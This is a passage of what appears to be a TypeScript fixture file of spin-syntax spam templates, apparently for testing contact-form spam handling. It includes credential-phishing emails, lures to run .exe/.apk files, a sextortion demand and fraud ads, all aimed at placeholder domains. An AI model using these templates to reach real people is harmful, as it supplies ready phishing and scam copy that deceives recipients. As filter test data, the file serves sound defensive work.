      "Nama saya <<Wati|Rohaya|Darsono>>, saya ingin berbagi kesaksian. Saya telah ditipu empat kali oleh pemberi pinjaman palsu, sampai seorang teman mengenalkan saya kepada Bunda <<Alma|Clara|Rossa>>, pemberi pinjaman yang takut akan Tuhan. Hanya dalam 2 hari Rp <<250|400|300>> juta masuk ke rekening saya tanpa jaminan, bunga 2%. Bagi siapa yang butuh pinjaman silakan email bunda.pinjaman@trust-lend.example. Beliau tidak tahu saya menulis ini, tetapi saya ingin semua orang terbantu.",
  },
  {
    kind: "loan-offer",
    times: 3,
    as: "frx",
    from: ["Business Capital // funding@fast-capital.example"],
    subject: "Your business is pre-approved for $<<75,000|150,000|250,000>>",
    message:
      "Congratulations! Based on your company profile you are pre-approved for up to $<<75,000|150,000|250,000>> in working capital. Funds in <<24|48>> hours. Bad credit OK. No personal guarantee. Use it for payroll, inventory, or marketing. Takes 60 seconds to see if you qualify: https://fast-capital.example/apply",
  },
  {
    kind: "loan-offer",
    times: 3,
    as: "rqs",
    from: ["Gadai BPKB // gadai@gadai-bpkb.example"],
    subject: "Gadai BPKB <<mobil|motor|truk>> bunga rendah",
    message:
      "Gadai BPKB <<mobil|motor|truk>> langsung cair hari ini! Bunga 0,7%, pencairan sampai 90% harga kendaraan, kendaraan tetap dipakai, data dijemput ke rumah. Ajukan SEKARANG lewat WA https://wa.example/62800000<<111|222|333>> promo cashback 500rb + voucher belanja untuk pengajuan hari ini!!!",
  },
  {
    kind: "loan-offer",
    times: 2,
    as: "tr",
    from: ["Jasa Hapus Pinjol // solusi@hapus-pinjol.example"],
    subject: "Hapus data pinjol & <<galbay|DC>>",
    message:
      "Terlilit pinjol? Kami bantu hapus data di semua aplikasi pinjol legal maupun ilegal, bersihkan SLIK, stop teror DC. Biaya <<250|300>>rb bayar di muka. Sudah 8.000 klien sukses. WA 0896-0000-<<1212|3434>> hapus-pinjol.example",
  },
  {
    kind: "loan-offer",
    times: 3,
    as: "rxf",
    from: ["Private Investor // sheikh.funding@gulf-funds.example", "Gulf Funds Desk // desk@gulf-funds.example"],
    subject: "Project <<funding|financing>> USD 5M - 500M",
    message:
      "We represent a <<Gulf|Dubai|Middle East>> based investor group ready to finance your projects by way of debt at <<3%|2.5%>> per annum for up to 10 years with 2 years grace. Minimum USD 5 million. Brokers are welcome and earn 2%. Kindly send your business plan and executive summary to desk@gulf-funds.example",
  },
  {
    kind: "loan-offer",
    times: 2,
    as: "sf",
    from: ["Kartu Kredit Gestun // gestun@gestun-online.example"],
    subject: "Gestun kartu kredit & paylater",
    message:
      "Gesek tunai kartu kredit / paylater limit berapa pun cair 5 menit rate <<2|3>>%. Buka 24 jam, rekber, aman terpercaya. Juga jual limit, bobol paylater. Order: gestun-online.example",
  },
  {
    kind: "loan-offer",
    times: 3,
    as: "rtr",
    from: ["SBLC Provider // provider@sblc-lease.example"],
    subject: "BG/SBLC for <<lease|sale|lease and sale>>",
    message:
      "We are direct providers of Fresh Cut BG, SBLC, MTN and LC for lease/sale at leasing price of <<4+2|5+2|3.5+2>>% of face value, issued from AAA rated banks, minimum 10 million, maximum 10 billion. Intermediaries/consultants/brokers are welcome. For further details contact provider@sblc-lease.example",
  },
];

const crypto: Base[] = [
  {
    kind: "crypto-forex",
    times: 4,
    as: "rqfs",
    from: ["<<Bitcoin|Crypto|BTC>> Evolution // <<info|start>>@btc-evolution.example"],
    subject: "Earn $<<2,300|3,850|7,400|9,120>> per day on autopilot",
    message:
      "This new AI trading bot makes ordinary people <<rich|millionaires|financially free>>! Invest $250 in Bitcoin and earn $<<2,300|3,850|7,400|9,120>> every day on full autopilot. 98.7% win rate. Only <<37|19|52>> free places left in Indonesia -> https://btc-evolution.example/go?src=form",
  },
  {
    kind: "crypto-forex",
    times: 3,
    as: "rft",
    from: ["Robot Trading // robot@auto-profit.example", "Auto Profit ID // cs@auto-profit.example"],
    subject: "Robot trading forex profit <<1%|3%|10%>> per hari",
    message:
      "Mau passive income tanpa ribet? Robot trading forex & emas kami sudah terbukti profit konsisten <<1%|3%|10%>> per hari, modal mulai <<$100|Rp 1 juta>>. WD kapan saja masuk rekening. Bonus referral 10 level. Dijamin 100% aman dan halal. Gabung grup: https://auto-profit.example/join",
  },
  {
    kind: "crypto-forex",
    times: 3,
    as: "rxs",
    from: ["Wallet Support // support@wallet-sync.example"],
    subject: "Your <<BTC|USDT|ETH>> balance is waiting",
    message:
      "You have an unclaimed balance of <<1.2846 BTC|48,200 USDT|31.7 ETH>> in your mining account. Last warning: the account will be deleted in 24 hours because of inactivity for 364 days. Withdraw here: https://wallet-sync.example/claim?id=<<8841023|7720031|9912844>>",
  },
  {
    kind: "crypto-forex",
    times: 3,
    as: "frr",
    from: ["Signals VIP // vip@pump-signals.example"],
    subject: "VIP pump signals <<300%|500%|1000%>>",
    message:
      "Next coin to pump <<300%|500%|1000%>> announced TONIGHT 21:00 UTC in our free channel. Last week members made 42 ETH. Entry is free for the first <<200|500>> people: t-gram.example/+pump<<Vip|Room|Club>> 🚀🚀🚀 Not financial advice",
  },
  {
    kind: "crypto-forex",
    times: 3,
    as: "str",
    from: ["Recover Assets // agent@asset-recovery.example", "Cyber Djinn // djinn@asset-recovery.example"],
    subject: "Recover your <<lost|stolen|scammed>> crypto",
    message:
      "Did you lose money to a fake broker or romance scam? I lost $<<184,000|92,500|310,000>> and thought my life was over until I found <<Cyber Djinn|Hack Nimble|Asset Rescuers>>, a certified recovery hacker who got back all of my bitcoins in 72 hours. Contact them: agent@asset-recovery.example  W/A +1 555 010 0<<171|172|173>>. You will thank me later.",
  },
  {
    kind: "crypto-forex",
    times: 3,
    as: "rfx",
    from: ["Copytrade Master // master@copytrade.example"],
    subject: "Copy my forex trades for free",
    message:
      "Hello trader, I turned <<$500|$1,000|$300>> into <<$41,000|$78,000|$22,600>> in 3 months with gold scalping (XAUUSD). You can copy all my trades FREE if you register under my broker link https://copytrade.example/ib/<<7781|7782|7783>> and deposit minimum $200. Bonus deposit 100%.",
  },
  {
    kind: "crypto-forex",
    times: 2,
    as: "sr",
    from: ["Elena Marsh // elena.marsh@inbox.test"],
    subject: "I found your contact and want to share <<something|a secret>>",
    message:
      "Hello dear, my uncle is an analyst at a large exchange and gives me inside nodes for USDT liquidity mining. I make $<<4,000|6,500>> daily without doing anything. I want to teach you because I feel we are destined to be friends. Register at https://usdt-node.example with my code ELENA88 and deposit 500 USDT, I will guide you step by step on whatsapp. Guaranteed profit, zero risk!",
  },
  {
    kind: "crypto-forex",
    times: 3,
    as: "rts",
    from: ["Presale Team // presale@<<dogeroyal|moonfrog|nusacoin>>.example"],
    subject: "<<DOGEROYAL|MOONFROG|NUSACOIN>> presale is LIVE",
    message:
      "$<<DOGEROYAL|MOONFROG|NUSACOIN>> presale stage <<2|3|4>> is live! Raised <<$4.1M|$7.8M|$12M>> in 6 days. Price goes up in 5 hours. Analysts predict 100x after listing. Connect wallet and buy: https://<<dogeroyal|moonfrog|nusacoin>>.example/presale",
  },
  {
    kind: "crypto-forex",
    times: 3,
    as: "rfr",
    from: ["Airdrop Bot // drop@airdrop-claim.example"],
    subject: "Airdrop <<eligible|confirmed|ending soon>>",
    message:
      "Your wallet is eligible for <<12,000|5,400|8,888>> ARBX tokens ($<<1,944|873|1,440>>). Claim window closes in <<3|6|12>> hours. Connect at airdrop-claim.example — gas fees refunded.",
  },
  {
    kind: "crypto-forex",
    times: 2,
    as: "xr",
    from: ["OTC Desk // otc@usdt-flash.example"],
    subject: "Flash USDT available",
    message:
      "Flash USDT TRC20/ERC20 software for sale, stays <<90|120>> days in wallet, tradable & transferable to any exchange. 2,000 USD buys 20,000 flash. Test transaction available. Serious buyers only: otc@usdt-flash.example",
  },
  {
    kind: "crypto-forex",
    times: 3,
    as: "rst",
    from: ["Investasi Emas Digital // promo@emas-digital.example", "Titip Dana // titip@emas-digital.example"],
    subject: "Titip dana profit <<24 jam|3 jam|1 jam>>",
    message:
      "OPEN TITIP DANA 🔥 modal <<500rb jadi 5jt|1jt jadi 12jt|300rb jadi 3jt>> hanya <<24|3|1>> jam! Legalitas OJK & Bappebti lengkap, ada sertifikat + surat perjanjian bermaterai. Transfer dulu lalu profit otomatis cair. Admin cantik siap bantu: https://emas-digital.example/wa",
  },
];

const pharmacy: Base[] = [
  {
    kind: "pharmacy-adult",
    times: 4,
    as: "rfsx",
    from: ["<<Canadian|Online|Discount|Generic>> Pharmacy // rx@<<canada|online|discount|generic>>-meds.example"],
    subject: "<<V1agra|Cialis|Kamagra|Levitra>> without prescription",
    message:
      "Buy <<V1agra|Cialis|Kamagra|Levitra>> online without prescription! Only $0.<<79|89|99>> per pill, discreet packaging, free worldwide delivery, 10 bonus pills with every order. https://<<canada|online|discount|generic>>-meds.example/ed",
  },
  {
    kind: "pharmacy-adult",
    times: 3,
    as: "rfr",
    from: ["Obat Kuat // toko@obat-kuat-herbal.example", "Herbal Perkasa // order@obat-kuat-herbal.example"],
    subject: "Obat kuat <<herbal|tahan lama|pembesar>> asli",
    message:
      "Obat kuat <<herbal|tahan lama|pembesar>> alami 100% tanpa efek samping, bikin istri ketagihan!! Harga <<150|200|275>>rb bisa COD seluruh Indonesia, privasi aman dibungkus rapi. Order WA 0821-0000-<<6601|6602|6603>> obat-kuat-herbal.example",
  },
  {
    kind: "pharmacy-adult",
    times: 3,
    as: "qrs",
    from: ["Lonely <<Jenny|Kate|Mila>> // <<jenny|kate|mila>>@hot-dates.example"],
    subject: "Are you free <<tonight|this weekend>>?",
    message:
      "Hi handsome 😘 I'm <<Jenny|Kate|Mila>>, <<24|27|22>>, I saw your profile and I want to meet a serious man for no-strings fun tonight. My private photos and webcam are here, registration is free: https://hot-dates.example/u/<<jenny24|kate27|mila22>>  18+ only, don't tell anyone",
  },
  {
    kind: "pharmacy-adult",
    times: 2,
    as: "rt",
    from: ["Weight Wonder // hello@keto-burn.example"],
    subject: "Lose <<12kg|9kg>> in 3 weeks",
    message:
      "Doctors HATE this! The new keto gummies melt <<12kg|9kg>> of belly fat in 3 weeks without diet or exercise. As seen on TV. Claim a free bottle (just pay shipping): https://keto-burn.example/free-bottle",
  },
  {
    kind: "pharmacy-adult",
    times: 3,
    as: "frx",
    from: ["Bokep Viral // viral@video-viral.example"],
    subject: "Video viral <<selebgram|mahasiswi|guru>> full durasi",
    message:
      "LINK VIDEO VIRAL <<SELEBGRAM|MAHASISWI|GURU>> FULL DURASI NO SENSOR!! lagi heboh di medsos, tonton sebelum dihapus: https://video-viral.example/<<1|2|3>> (klik 2x iklan lalu play)",
  },
  {
    kind: "pharmacy-adult",
    times: 2,
    as: "rr",
    from: ["Pain Relief Shop // sales@no-rx-pharma.example"],
    subject: "Tramadol / Xanax / Modafinil in stock",
    message:
      "Overnight shipping on <<tramadol|xanax>>, <<modafinil|ambien>>, soma, phentermine. No doctor visit. Cards, BTC accepted. 15% off the second order. Write to sales@no-rx-pharma.example or visit no-rx-pharma.example",
  },
  {
    kind: "pharmacy-adult",
    times: 2,
    as: "tr",
    from: ["Open BO // bo@pijat-plus.example"],
    subject: "Pijat panggilan 24 jam",
    message:
      "Pijat panggilan plus plus <<Jakarta|Surabaya>> 24 jam, terapis muda cantik, bayar di tempat, hotel atau apartemen. Katalog foto: https://pijat-plus.example/katalog WA 0895-0000-<<3131|3132>>",
  },
  {
    kind: "pharmacy-adult",
    times: 2,
    as: "sf",
    from: ["CBD Farms // cbd@gummy-farm.example"],
    subject: "Free CBD sample pack",
    message:
      "Relieve pain, anxiety, and <<insomnia|stress>> naturally with full-spectrum CBD + THC gummies. Ships everywhere. Use code <<FORM40|CHILL40>> for 40% off your first order at https://gummy-farm.example",
  },
  {
    kind: "pharmacy-adult",
    times: 2,
    as: "sr",
    from: ["Dr. Prostate // health@mens-power.example"],
    subject: "Ancient tonic makes men <<rock solid|20 years younger>>",
    message:
      "This weird <<Himalayan|Amazonian>> 7-second trick restores your manhood overnight. 143,000 men already use it. Big Pharma wants this video taken down! Watch now before it's gone >> https://mens-power.example/video  SALE: 80% OFF, buy 3 get 3 free, viagra alternative without prescription",
  },
];

const phishing: Base[] = [
  {
    kind: "phishing",
    times: 3,
    as: "rfs",
    from: ["<<Mail|Webmail|IT>> Administrator // no-reply@mailbox-verify.example"],
    subject: "Your mailbox <<is full|will be suspended|storage 98%>>",
    message:
      "Dear user,\n\nYour mailbox on nusagrid.example has exceeded its storage limit and will be <<suspended|deactivated|deleted>> within <<24|12|48>> hours. To keep receiving messages please verify your account and password here:\n\nhttps://mailbox-verify.example/login?u=info@nusagrid.example\n\nFailure to do so will result in permanent loss of mails.\nMail Administrator",
  },
  {
    kind: "phishing",
    times: 3,
    as: "rtx",
    from: ["Accounts Dept // accounts@<<invoice-portal|pay-docs|billing-cloud>>.example"],
    subject: "Overdue invoice <<INV-88213|#40177|2025/0931>>",
    message:
      "Please find below the link to your overdue invoice <<INV-88213|#40177|2025/0931>> of USD <<4,870.00|12,315.50|2,940.00>>. Kindly settle today to avoid legal action. Download (secure document, password: 2025): https://<<invoice-portal|pay-docs|billing-cloud>>.example/d/inv.zip",
  },
  {
    kind: "phishing",
    times: 3,
    as: "frs",
    from: ["Parcel Notice // delivery@parcel-hold.example", "Ekspedisi Info // info@parcel-hold.example"],
    subject: "Paket Anda <<tertahan|gagal dikirim|menunggu konfirmasi>>",
    message:
      "Paket Anda dengan resi <<ID0088123321|ID0091245570|ID0077310044>> tertahan di gudang karena alamat tidak lengkap. Bayar biaya penanganan Rp <<15.000|18.500|9.900>> dan konfirmasi alamat dalam 12 jam melalui https://parcel-hold.example/resi atau pasang aplikasi CekResi.apk. Jika tidak, paket dikembalikan.",
  },
  {
    kind: "phishing",
    times: 2,
    as: "rs",
    from: ["Bank Security // secure@bank-verifikasi.example"],
    subject: "Akun Anda diblokir sementara",
    message:
      "Nasabah yth, kami mendeteksi transaksi mencurigakan sebesar Rp <<14.750.000|8.200.000>>. Akun m-banking Anda DIBLOKIR sementara. Segera buka blokir dengan memasukkan user ID, PIN dan kode OTP di https://bank-verifikasi.example/buka-blokir. Abaikan = saldo hangus dan tarif transaksi menjadi 150.000/bulan!",
  },
  {
    kind: "phishing",
    times: 2,
    as: "rx",
    from: ["Ads Policy Team // appeal@page-appeal.example"],
    subject: "Your business page will be <<disabled|unpublished>>",
    message:
      "We received several reports that your business page violates our <<trademark rights|community standards>>. Your page will be permanently <<disabled|unpublished>> within 24 hours. If you believe this is a mistake submit an appeal: https://page-appeal.example/case/<<100088213|100077120>>",
  },
  {
    kind: "phishing",
    times: 2,
    as: "qr",
    from: ["DocSign Service // documents@e-sign-now.example"],
    subject: "Completed: please review and sign",
    message:
      'You received a confidential document from <<HR Payroll|Finance Director>>: "<<Salary Adjustment 2026|Remittance Advice>>.pdf". REVIEW DOCUMENT -> https://e-sign-now.example/v?d=98fa12&e=info@nusagrid.example  This link expires today.',
  },
  {
    kind: "phishing",
    times: 2,
    as: "rr",
    from: ["Purchasing Manager // purchase@trade-orders.test"],
    subject: "New Purchase Order <<PO-77102|PO-55093>>",
    message:
      "Dear Sales,\n\nGood day. We are interested to buy your products as per the attached order list. Kindly check and quote your best FOB price and payment terms.\n\nView order list here: https://trade-orders.test/<<PO-77102|PO-55093>>.html (login with your company email to open)\n\nBest Regards,\nPurchasing Manager",
  },
  {
    kind: "phishing",
    times: 2,
    as: "ft",
    from: ["Tax Refund Unit // refund@tax-refund.invalid"],
    subject: "Tax refund approved",
    message:
      "After the last annual calculation we determined that you are eligible to receive a tax refund of <<Rp 6.412.000|$ 843.19>>. Submit the refund request with your card number, expiry date and CVV: https://tax-refund.invalid/form . Allow 3-6 days.",
  },
  {
    kind: "phishing",
    times: 2,
    as: "rq",
    from: ["Undian Berhadiah // undian@pemenang-resmi.example"],
    subject: "SELAMAT! Nomor Anda pemenang undian",
    message:
      "SELAMAT nomor HP Anda terpilih sebagai pemenang <<ke-2|ke-3>> undian berhadiah mobil + uang tunai Rp <<175|100>> juta. PIN pemenang: <<B7C8K99|477FC88>>. Klaim hadiah di pemenang-resmi.example, pajak hadiah ditransfer lebih dahulu ke panitia. Hubungi Bpk. Drs. H. Sukmono 0852-0000-7171.",
  },
  {
    kind: "phishing",
    times: 1,
    as: "x",
    from: ["Hacker // anon@you-are-hacked.invalid"],
    subject: "I have full access to your device",
    message:
      "I am a professional hacker and I infected your operating system months ago. I recorded you through your camera while you visited adult websites. Transfer $1,350 in bitcoin to wallet bc1-fictional-0000-pay-me within 50 hours or the video goes to all of your contacts. Do not reply, do not go to the police.",
  },
];

const linkDumps: Base[] = [
  {
    kind: "link-dump",
    times: 4,
    as: "rfxr",
    from: ["<<Cheap|Best|Buy|Top>><<Shoes|Watches|Bags|Essay>> // <<a|b|c|d>>@replica-world.example"],
    subject: "<<shoes|watches|bags|essay>>",
    message:
      "[url=https://replica-world.example/<<shoes|watches|bags|essay>>]cheap <<shoes|watches|bags|essay>>[/url] [url=https://replica-world.example/<<watches|bags|essay|shoes>>]<<replica watches|designer bags|write my essay|sneakers outlet>>[/url] [url=https://replica-world.example/sale]sale 2025[/url] thank you admin nice site",
  },
  {
    kind: "link-dump",
    times: 3,
    as: "frx",
    from: ["XRum<<Test|User|Post>> // xr@board-poster.test"],
    subject: "[b]<<hello|news|forum>>[/b]",
    message:
      "[b][url=http://<<alpha|beta|gamma>>-drugs.test]buy online[/url][/b]\n[i][url=http://<<alpha|beta|gamma>>-drugs.test/2]order cheap[/url][/i]\n[img]http://<<alpha|beta|gamma>>-drugs.test/b.gif[/img]\nhttp://<<alpha|beta|gamma>>-drugs.test/index.php?showuser=<<1181|2213|3310>>",
  },
  {
    kind: "link-dump",
    times: 3,
    as: "rrf",
    from: ["<<Jamesnuh|RobertKef|DavidGob>> // <<jamesnuh|robertkef|davidgob>>@mail-drop.test"],
    subject: "<<Wow all kinds of very good information|Thanks a lot, I appreciate it|You revealed that really well>>!",
    message:
      '<<Wow a lot of excellent tips|Kudos, I value it|Seriously a good deal of superb facts>>! <a href="https://essay-factory.test/">write my paper for me</a> <a href="https://essay-factory.test/thesis">dissertation help</a> <<Regards, loads of knowledge|You\'ve made your position extremely clearly|Amazing postings>>.',
  },
  {
    kind: "link-dump",
    times: 3,
    as: "tsr",
    from: ["seo<<bot|king|lord>> // dump@anchor-rain.test"],
    subject: "<<interesting|useful|more>> links",
    message:
      "<a href='http://anchor-rain.test/1'>vpn free</a>, <a href='http://anchor-rain.test/2'>mod apk</a>, <a href='http://anchor-rain.test/3'>crack <<photo editor|office suite|antivirus>></a>, <a href='http://anchor-rain.test/4'>serial key <<2024|2025|2026>></a>, <a href='http://anchor-rain.test/5'>torrent</a>",
  },
  {
    kind: "link-dump",
    times: 2,
    as: "rx",
    from: ["Darknet Index // onion@dark-index.invalid"],
    subject: "darknet market links <<2025|2026>>",
    message:
      "darknet markets <<2025|2026>> [url=https://dark-index.invalid/]dark market list[/url] https://dark-index.invalid/onion - dark web marketplaces, [url=https://dark-index.invalid/urls]darknet markets onion address[/url]",
  },
  {
    kind: "link-dump",
    times: 2,
    as: "fr",
    from: ["PhillipSow // phillipsow@mail-drop.test"],
    subject: "Good info. Lucky me I found your site",
    message:
      "I really like what you guys are up too. Such clever work and reporting! Keep up the good works guys I've added you to my blogroll. Feel free to visit my homepage :: <<bail bonds|roof repair>> https://<<bail-bonds|roof-repair>>.test/near-me",
  },
  {
    kind: "link-dump",
    times: 2,
    as: "rf",
    from: ["Streaming HD // hd@nonton-gratis.test"],
    subject: "nonton film <<gratis|sub indo>>",
    message:
      "[url=https://nonton-gratis.test]nonton film <<gratis|sub indo>>[/url] | [url=https://nonton-gratis.test/bola]live streaming bola[/url] | [url=https://nonton-gratis.test/lk]layar kaca baru[/url] | [url=https://nonton-gratis.test/drakor]drakor terbaru[/url]",
  },
  {
    kind: "link-dump",
    times: 2,
    as: "sr",
    from: ["Fashion Outlet // outlet@luxury-replica.test"],
    subject: "Replica <<watches|handbags>> -90%",
    message:
      'AAA+ grade replica <<watches|handbags>> from $49!!! https://luxury-replica.test/men https://luxury-replica.test/women https://luxury-replica.test/sale https://luxury-replica.test/new https://luxury-replica.test/vip FREE SHIPPING + gift box. Buy now, stock is limited! <a href="https://luxury-replica.test">cheap replica</a>',
  },
  {
    kind: "link-dump",
    times: 2,
    as: "xr",
    from: ["admin_wp // wp@markdown-links.test"],
    subject: "resources",
    message:
      "[buy proxies](https://markdown-links.test/proxies) [<<sms activation|captcha solver>>](https://markdown-links.test/a) [anti detect browser](https://markdown-links.test/b) [accounts shop](https://markdown-links.test/c) [best residential ip](https://markdown-links.test/d)",
  },
];

const foreign: Base[] = [
  {
    kind: "foreign-script",
    times: 3,
    as: "rfx",
    from: ["<<Алексей|Дмитрий|Виктор>> // promo@<<prodvizhenie|rassylka|kross>>.test"],
    subject: "Продвижение сайта <<в топ|под ключ|недорого>>",
    message:
      "Здравствуйте! Предлагаем <<продвижение вашего сайта в топ-10|прогон сайта по 10 000 каталогов|вечные ссылки с трастовых сайтов>>. Гарантия результата, оплата по факту. Подробности: https://<<prodvizhenie|rassylka|kross>>.test/ Пишите в телегу @seo_<<top|master|link>>",
  },
  {
    kind: "foreign-script",
    times: 3,
    as: "rrf",
    from: ["Казино <<Вулканчик|Азартик|Фортунка>> // bonus@kazino-<<vu|az|fo>>.test"],
    subject: "<<Бонус 50 000 рублей|Фриспины без депозита|Зеркало на сегодня>>",
    message:
      "Играй в лучшем онлайн казино! <<Бонус 50 000 рублей|100 фриспинов без депозита|Рабочее зеркало>> каждому новому игроку. Моментальный вывод на карту. Жми: http://kazino-<<vu|az|fo>>.test/reg",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "rt",
    from: ["Рассылка по формам // forms@form-rassylka.test"],
    subject: "Коммерческое предложение",
    message:
      "Здравствуйте! nusagrid.example - Рассылаем ваши коммерческие предложения через формы обратной связи, как это письмо. Письма попадают во входящие, база <<2 500 000|1 800 000>> сайтов. Тест бесплатно. Телеграф: @form_rassylka, сайт https://form-rassylka.test",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "fq",
    from: ["Сергей // zaim@<<zaim|mikro>>-online.test"],
    subject: "Займ на карту без отказа",
    message:
      "Займ на карту за 5 минут без проверки кредитной истории, первый займ под 0%. До <<30 000|100 000>> рублей круглосуточно, 18+. Оформить: https://<<zaim|mikro>>-online.test",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "rx",
    from: ["Мефедрон // shop@klad-shop.invalid"],
    subject: "закладки",
    message:
      "Магазин работает 24/7, моментальные магазины во всех городах. <<Соль, гашиш, меф|Бошки, экстази>>. Вход: http://klad-shop.invalid/<<msk|spb>> зеркало http://klad-shop2.invalid",
  },
  {
    kind: "foreign-script",
    times: 3,
    as: "rfr",
    from: ["<<王经理|李小姐|陈先生>> // sales@<<fapiao|daikai|piaoju>>.test"],
    subject: "<<代开发票|优惠代开|增值税发票>>",
    message:
      "您好!本公司可<<代开各类增值税发票|长期代开餐饮住宿发票|代理开具建筑劳务发票>>,点数优惠,先开后付,可验证。联系微信:fp<<8801|8802|8803>> 电话 13800000<<001|002|003>> 详情 https://<<fapiao|daikai|piaoju>>.test",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "ts",
    from: ["澳门娱乐 // vip@aomen-yule.test"],
    subject: "注册送<<88|188>>元",
    message:
      "澳门线上娱乐城,真人百家乐、电子老虎机、体育投注,注册即送<<88|188>>元,首存100%优惠,提款3分钟到账!官网:https://aomen-yule.test/<<88|188>> 客服24小时在线",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "rs",
    from: ["深圳市五金厂 // export@shenzhen-wujin.test"],
    subject: "网站优化 快速排名",
    message:
      "<<百家外链,快速排名|网站SEO优化,七天上首页>>,不成功不收费!1000条外链仅需99元。同时提供网站快照劫持、蜘蛛池出租、黑帽排名。立即咨询:https://zhizhuchi.test 扣扣 1000000<<1|2>>",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "fr",
    from: ["شركة الربح // arbah@forex-arab.test"],
    subject: "اربح <<500|900>> دولار يوميا",
    message:
      "هل تريد ربح <<500|900>> دولار يوميا من المنزل؟ انضم الآن إلى منصة التداول الآلي بدون خبرة. ضمان استرداد الأموال 100٪. سجل من هنا: https://forex-arab.test/reg",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "rq",
    from: ["株式会社出会い // info@deai-site.test"],
    subject: "当選のお知らせ",
    message:
      "おめでとうございます!<<500万円|1億円>>の受取資格に当選されました。本日中に下記URLより受取手続きを完了してください。期限を過ぎると無効になります。 https://deai-site.test/uketori?id=<<44120|55231>>",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "xr",
    from: ["토토관리자 // toto@toto-korea.test"],
    subject: "먹튀없는 메이저 <<토토|카지노>>",
    message:
      "안전한 메이저 <<토토|카지노>> 사이트, 신규가입 첫충 30% 매충 10% 보너스. 먹튀 검증 완료, 24시간 환전. 가입코드 <<777|999>> https://toto-korea.test",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "rf",
    from: ["สล็อตเว็บตรง // slot@slot-webtrong.test"],
    subject: "สล็อตเว็บตรง แตกง่าย",
    message:
      "สล็อตเว็บตรง ไม่ผ่านเอเย่นต์ ฝากถอนออโต้ ไม่มีขั้นต่ำ สมัครวันนี้รับเครดิตฟรี <<50|100>> บาท ทันที https://slot-webtrong.test/<<register|free>>",
  },
  {
    kind: "foreign-script",
    times: 2,
    as: "rt",
    from: ["Nguyễn Vay Nhanh // vay@vay-nhanh.test"],
    subject: "Vay tiền online <<nhanh|không thế chấp>>",
    message:
      "Vay tiền online <<nhanh trong 10 phút|không thế chấp>>, chỉ cần CMND, giải ngân tới 20 triệu, nợ xấu vẫn duyệt. Đăng ký ngay: https://vay-nhanh.test  Nhà cái uy tín khuyến mãi 100%",
  },
  {
    kind: "foreign-script",
    times: 1,
    as: "r",
    from: ["Δημήτρης // kazino@kazino-gr.test"],
    subject: "Δωρεάν περιστροφές",
    message:
      "Παίξε τώρα στο καλύτερο διαδικτυακό καζίνο και κέρδισε 200 δωρεάν περιστροφές: https://kazino-gr.test/bonus",
  },
];

const copyrightLures: Base[] = [
  {
    kind: "copyright-lure",
    times: 3,
    as: "rfq",
    from: ["<<Melinda|Marquita|Sabrina>> Photographer // <<mel|marq|sab>>.images@photo-claims.example"],
    subject: "<<DMCA Copyright Infringement Notice|You are stealing my images|Legal notice - stolen pictures>>",
    message:
      "Hello there!\n\nThis is <<Melinda|Marquita|Sabrina>> and I am a licensed photographer and illustrator. I was baffled, mildly speaking, when I came across my images at your website nusagrid.example. If you use a copyrighted image without the owner's permission you can be sued by the creator.\n\nHere is the document with the links to my images you used and my previous publications to get the evidence of my legal copyrights. Download it now and check it out for yourself:\n\nhttps://photo-claims.example/evidence/stolen-images.zip?id=<<87731|66120|90114>>\n\nIf you don't remove the images mentioned in the document within the next few days I'll write a complaint to your hosting provider and then to court!",
  },
  {
    kind: "copyright-lure",
    times: 3,
    as: "rxt",
    from: ["Legal Dept // legal@ip-enforcement.example"],
    subject: "Final notice: <<unlicensed photo|image licence|settlement>> case <<2025-4471|2025-9012|2026-0038>>",
    message:
      "Your website is displaying <<3|1|7>> image(s) represented by our client without a licence. To avoid litigation a settlement of EUR <<780|1,150|2,300>> is payable within 7 days. View the infringing images and evidence report: https://ip-enforcement.example/case.html (open the .js viewer to see the proof)",
  },
  {
    kind: "copyright-lure",
    times: 2,
    as: "fr",
    from: ["Kantor Hukum Wirabhakti // kuasa@somasi-online.example"],
    subject: "SOMASI pelanggaran hak cipta gambar",
    message:
      "Dengan hormat, website Anda menggunakan <<4|2>> foto milik klien kami tanpa izin. Bukti pelanggaran dapat diunduh pada https://somasi-online.example/bukti.rar (kata sandi: 1234). Jika dalam 2x24 jam tidak ada tanggapan kami menempuh jalur pidana.",
  },
  {
    kind: "copyright-lure",
    times: 2,
    as: "qs",
    from: ["Content Owner // owner@stolen-content.example"],
    subject: "Report: your page was flagged",
    message:
      "A user flagged nusagrid.example for <<pirated video|copyright infringing images>>. Your domain will be removed from search in 24 hours!!! Download and run the free report viewer now to appeal: https://stolen-content.example/<<viewer|appeal>>.exe  https://stolen-content.example/appeal-form  CLICK HERE to keep your domain",
  },
];

const leads: Base[] = [
  {
    kind: "lead-lists",
    times: 3,
    as: "rqf",
    from: ["Caroline Hurst // caroline@list-vault.example", "Denise Ortega // denise@list-vault.example"],
    subject: "<<CISO|IT decision makers|Attendee>> email list",
    message:
      "Hi,\n\nWould you be interested in acquiring the verified <<CISO & IT Director contact list|list of IT decision makers in APAC|attendee list of the cybersecurity expo 2025>>? \n\nData fields: name, company, title, direct phone, verified email, revenue, employee size.\n\nCounts: <<14,280|36,900|8,115>> contacts. Let me know your target criteria, so that I can share the price and a few free samples.\n\nRegards,\nDemand Generation Specialist",
  },
  {
    kind: "lead-lists",
    times: 3,
    as: "rtx",
    from: ["B2B Leads // sales@fresh-leads.example"],
    subject: "<<5 million|12 million|900k>> business emails for $<<49|99|29>>",
    message:
      "Get our complete database of <<5 million|12 million|900k>> company emails from <<Indonesia|South East Asia|worldwide>>. Updated <<January|May|September>> 2025, 95% deliverability. One time payment $<<49|99|29>>, instant download: https://fresh-leads.example/asia",
  },
  {
    kind: "lead-lists",
    times: 3,
    as: "frr",
    from: ["Jual Database // db@jual-database.example"],
    subject: "Jual database <<nomor WA|nasabah|pemilik usaha>> aktif",
    message:
      "Jual database <<nomor WA aktif|nasabah prioritas|pemilik usaha>> se-Indonesia 100% fresh 2025, <<1 juta|300 ribu|50 ribu>> kontak hanya Rp <<150|250|400>>.000. Lengkap nama, alamat, no HP, email, pekerjaan. Cocok untuk blast promosi. Order https://jual-database.example",
  },
  {
    kind: "lead-lists",
    times: 2,
    as: "qr",
